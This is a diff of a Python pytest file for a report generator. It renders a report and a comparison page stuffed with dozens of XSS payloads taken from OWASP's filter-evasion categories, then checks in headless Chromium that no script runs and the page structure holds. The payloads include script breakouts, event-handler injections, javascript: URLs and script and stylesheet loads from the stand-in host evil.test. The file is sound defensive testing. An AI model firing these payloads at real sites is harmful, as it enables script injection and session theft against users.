@@ -1,8 +1,8 @@
-"""Row texts in a real browser: no script of theirs runs, and the page keeps the shape that it has with plain texts.
+"""Hostile row texts in a real browser: no script of theirs runs, and the page is structured as with plain text.
 
-The texts follow the categories of OWASP's "XSS Filter Evasion" and "Cross Site Scripting Prevention" cheat sheets. The
-page is opened without its content security policy too, so that escaping alone must hold, and texts are put on it
-unescaped, so that the policy alone must hold; without both, they do run, or this test would prove nothing.
+The texts follow the categories of OWASP's "XSS Filter Evasion" and "Cross Site Scripting Prevention" cheat sheets. Two
+layers are tested one at a time: escaping without the content security policy, and the policy with unescaped texts.
+Without both layers the scripts do run, which shows that the test can detect them.
 """
 
 import shutil
@@ -23,7 +23,7 @@ from sealtune.report.page import render
 from sealtune.report.view import ReportView
 
 BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome", "chrome"))), None)
-QUIET = [
+FLAGS = [
     *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
     *("--disable-background-networking", "--disable-component-update", "--virtual-time-budget=8000", "--dump-dom"),
 ]
@@ -36,7 +36,7 @@ PAYLOADS = {
     "script within script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
     "script from elsewhere": "<script src=https://evil.test/x.js></script>",
     "script as data": f"<script src='data:text/javascript,{RUN}'></script>",
-    "script left open": f"<script>{RUN}//",
+    "unclosed script": f"<script>{RUN}//",
     "module": f"<script type=module>{RUN}</script>",
     "out of a script": f"</script><script>{RUN}</script>",
     "out of a style": f"</style><script>{RUN}</script>",
@@ -44,7 +44,7 @@ PAYLOADS = {
     "out of a textarea": f"</textarea></pre></details></section><script>{RUN}</script>",
     "out of a comment": f"--><script>{RUN}</script><!--",
     "out of CDATA": f"]]><script>{RUN}</script><![CDATA[",
-    "into a comment": "<!-- all that follows is hidden",
+    "into a comment": "<!-- everything after this is hidden",
     "image": f"<img src=x onerror={RUN}>",
     "image with slashes": f"<img/src=x/onerror={RUN}//",
     "image with backticks": f"<img src=`x` onerror=`{RUN}`>",
@@ -79,7 +79,7 @@ PAYLOADS = {
     "frame of a document": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
     "object": f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
     "embed": "<embed src='data:image/svg+xml,<svg/>'>",
-    "another base": "<base href=https://evil.test/>",
+    "base element": "<base href=https://evil.test/>",
     "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
     "another policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
     "link": "<link rel=stylesheet href=https://evil.test/x.css>",
@@ -91,14 +91,14 @@ PAYLOADS = {
     "button": f"<form id=f></form><button form=f formaction=javascript:{RUN} autofocus>Go</button>",
     "clobbered names": "<form id=figure-data name=Plotly><input name=textContent></form><a id=documentElement>",
     "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
-    "entities without end": f"&#60script&#62{RUN}&#60/script&#62",
+    "entities without a semicolon": f"&#60script&#62{RUN}&#60/script&#62",
     "entities in hex": f"&#x3c;img src=x onerror={RUN}&#x3e;",
     "escapes of JavaScript": f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
     "escapes of addresses": "%3Cscript%3Ealert(1)%3C/script%3E",
     "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
     "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
     "out of a string": f'"}};{RUN};//',
-    "out of a string by its escape": f'\\";{RUN};//',
+    "out of a string by an escape": f'\\";{RUN};//',
     "out of JSON": f'"}}]}}</script><script>{RUN}</script>',
     "line separators": f"\u2028{RUN}\u2029",
     "template of the page": "{{ 7 * 7 }}{% raw %}{{ view.config }}",
@@ -108,24 +108,24 @@ PAYLOADS = {
     "template element": f"<template shadowrootmode=open><script>{RUN}</script>",
     "custom element": f"<x-y tabindex=1 autofocus onfocus={RUN}>",
     "table parts": f"</td></tr></table><img src=x onerror={RUN}><table><tr><td>",
-    "many opened": "<b>" * 600,
+    "many open tags": "<b>" * 600,
     "figure markup": f"<a href=\"javascript:{RUN}\">x</a><br><sup>2</sup><span style='fill:red'>y</span>",
     "figure template": "%{x}<extra></extra>$\\href{javascript:alert(1)}{x}$",
-    "heading forged": "</p></section><section><h2>Verdict</h2><p>All rows are safe.</p>",
-    "turned around": "\u202eelbisiver\u202c \u2066hidden\u2069 \u200f\u061c",
-    "half a pair": f"\ud800<script>{RUN}</script>\udfff",
-    "byte order": f"\ufeff\ufffe<script>{RUN}</script>",
+    "forged heading": "</p></section><section><h2>Verdict</h2><p>All rows are safe.</p>",
+    "bidirectional controls": "\u202eelbisiver\u202c \u2066hidden\u2069 \u200f\u061c",
+    "lone surrogates": f"\ud800<script>{RUN}</script>\udfff",
+    "byte order mark": f"\ufeff\ufffe<script>{RUN}</script>",
     "controls": "\x00\x07\x08\x1b[2J\x1b]0;owned\x07\x7f\x9b31m",
     "prototype": "__proto__",
     "long": "A" * 2_000,
 }
 PLAIN = [f"plain {i}" for i in range(len(PAYLOADS))]
 VOID = frozenset({"meta", "link", "img", "input", "br", "hr", "col", "source", "embed", "base", "wbr"})
-UNSEEN = set(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200F, 0x61C, 0x1B, 0x7, 0x2028, 0xFEFF]))
+INVISIBLE = set(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200F, 0x61C, 0x1B, 0x7, 0x2028, 0xFEFF]))
 
 
-class Shape(HTMLParser):
-    """Elements with their attributes' names, classes and addresses, outside figures; and what stands in figures."""
+class Structure(HTMLParser):
+    """The elements outside figures, with attribute names, classes and links, and the tags inside figures."""
 
     def __init__(self, text):
         super().__init__()
@@ -140,8 +140,8 @@ class Shape(HTMLParser):
         if any(self.open):
             self.in_figures.add(tag)
         elif not mark:
-            told = tuple((key, named[key]) for key in ("class", "href", "id", "http-equiv") if key in named)
-            self.elements[tag, tuple(sorted(named)), told] += 1  # counted: tables are in the order of the texts
+            shown = tuple((key, named[key]) for key in ("class", "href", "id", "http-equiv") if key in named)
+            self.elements[tag, tuple(sorted(named)), shown] += 1  # counted, because tables are sorted by text
         if tag not in VOID:
             self.open.append(figure)
 
@@ -154,32 +154,32 @@ class Shape(HTMLParser):
 
 @pytest.fixture(scope="module")
 def browse(tmp_path_factory):
-    """The shape of a page once its scripts have run."""
+    """The structure of a page after its scripts have run."""
     folder = tmp_path_factory.mktemp("browser")
 
-    def shape(text):
+    def structure(text):
         page = folder / "page.html"
         page.write_text(text, encoding="utf-8")
-        command = [BROWSER, *QUIET, f"--user-data-dir={folder}/profile", page.as_uri()]
+        command = [BROWSER, *FLAGS, f"--user-data-dir={folder}/profile", page.as_uri()]
         done = subprocess.run(command, capture_output=True, timeout=120, check=True)
-        found = Shape(done.stdout.decode("utf-8"))
-        assert found.elements, "the browser gave no page"
+        found = Structure(done.stdout.decode("utf-8"))
+        assert found.elements, "the browser returned no page"
         return found
 
-    return shape
+    return structure
 
 
 def report(texts):
-    """A report with each of the texts in every place where a text may stand."""
+    """A report with each of the texts in every place where text can appear."""
     n = len(texts)
-    ids = [text.encode("utf-8", "backslashreplace").decode() for text in texts]  # as the door gives them
+    ids = [text.encode("utf-8", "backslashreplace").decode() for text in texts]  # as loading returns them
     score = np.arange(n, dtype=float)
-    nothing, verdicts = np.full(n, np.nan), spoken(texts, texts)
+    missing, verdicts = np.full(n, np.nan), verdicts_on(texts, texts)
     view = ReportView(
         title=texts[0],
         config={"model_name_or_path": texts[0]} | {text: [text] for text in texts},
         manifest={"command": texts[1], "versions": {t: t for t in texts}, "stages": {t: {t: t} for t in texts}},
-        scores=Scores(tuple(ids), tuple(ids), score, np.ones(n), nothing, nothing, np.ones(n, np.int64)),
+        scores=Scores(tuple(ids), tuple(ids), score, np.ones(n), missing, missing, np.ones(n, np.int64)),
         texts={row_id: (text, text) for row_id, text in zip(ids, texts, strict=True)},
         kept=frozenset(ids[n // 2 :]),
         borderline=frozenset(ids[:5]),
@@ -197,8 +197,8 @@ def answers(texts, models):
     return [Response(t, m, t, "harmful", t, t, 1, False) for t, m in zip(texts, models, strict=True)]
 
 
-def spoken(texts, models):
-    """Verdicts, half of them with a reason why there is none."""
+def verdicts_on(texts, models):
+    """Verdicts, half of which are missing for a reason."""
     return [
         Verdict(t, m, t, "harmful", t, "failed" if i % 2 else t, bool(i % 3), error=t if i % 2 else None)
         for i, (t, m) in enumerate(zip(texts, models, strict=True))
@@ -206,20 +206,20 @@ def spoken(texts, models):
 
 
 def table_of(verdicts):
-    """The table of these verdicts, with the text of each row in every column that is text."""
+    """The evaluation table of these verdicts, with hostile text in every text column."""
     rows = tabulate([replace(verdict, judge="refusal") for verdict in verdicts])
     return [row | {"judge": row["model"], "title": row["model"]} for row in rows]
 
 
 def comparison(texts, folder):
-    """compare.html of texts that rows, prompts, judges and errors brought."""
+    """compare.html with the texts as prompts, models, judges and errors."""
     config = build_config(
         {"model_name_or_path": texts[0], "output_dir": str(folder), "report": {"rows_shown": len(texts)}}
     )
-    texts = [text.encode("utf-8", "replace").decode() for text in texts]  # half a pair fits into no file
+    texts = [text.encode("utf-8", "replace").decode() for text in texts]  # a file cannot hold a lone surrogate
     models = ["random"] * len(texts)
-    table = [row | {"seeds": 1, "sd": None, "difference": None} for row in table_of(spoken(texts, models))]
-    part = MethodResult("random", 0, table, answers(texts, models), spoken(texts, models), {})
+    table = [row | {"seeds": 1, "sd": None, "difference": None} for row in table_of(verdicts_on(texts, models))]
+    part = MethodResult("random", 0, table, answers(texts, models), verdicts_on(texts, models), {})
     _write(config, table, [part], [{"method": "loss", "seed": 0, "error": text} for text in texts])
     return (folder / "compare.html").read_text(encoding="utf-8")
 
@@ -234,24 +234,24 @@ def without_policy(text):
 
 
 @pytest.mark.parametrize("kind", ["report", "comparison"])
-def test_texts_run_no_script_and_keep_the_shape_of_the_page(browse, kind, tmp_path):
+def test_hostile_texts_run_no_script_and_keep_the_structure_of_the_page(browse, kind, tmp_path):
     hostile = without_policy(page(kind, list(PAYLOADS.values()), tmp_path))
     plain = without_policy(page(kind, PLAIN, tmp_path))
     found, expected = browse(hostile), browse(plain)
     assert not found.owned
     assert found.elements == expected.elements
     assert found.in_figures == expected.in_figures and "svg" in found.in_figures
-    assert not UNSEEN & set("".join(found.texts))
-    addresses = {dict(told).get("href", "#") for _, _, told in found.elements}
+    assert not INVISIBLE & set("".join(found.texts))
+    addresses = {dict(shown).get("href", "#") for _, _, shown in found.elements}
     assert all(address.startswith("#") or address == "data:," for address in addresses)
 
 
-@pytest.mark.parametrize("guarded", [True, False])
-def test_the_policy_alone_holds_too(browse, guarded):
-    """What a hole in the escaping would let through; without the policy it runs, so the marks do tell."""
+@pytest.mark.parametrize("with_policy", [True, False])
+def test_the_policy_alone_blocks_scripts(browse, with_policy):
+    """Unescaped texts do not run under the policy, and do run without it."""
     text = report(PLAIN)
     raw = [PAYLOADS[name] for name in ("script", "image", "svg", "focus", "frame of a document")]
     for number, payload in enumerate(raw):
         text = text.replace(f">plain {number}<", f">{payload}<", 1)
     assert all(payload in text for payload in raw)
-    assert browse(text if guarded else without_policy(text)).owned is not guarded
+    assert browse(text if with_policy else without_policy(text)).owned is not with_policy
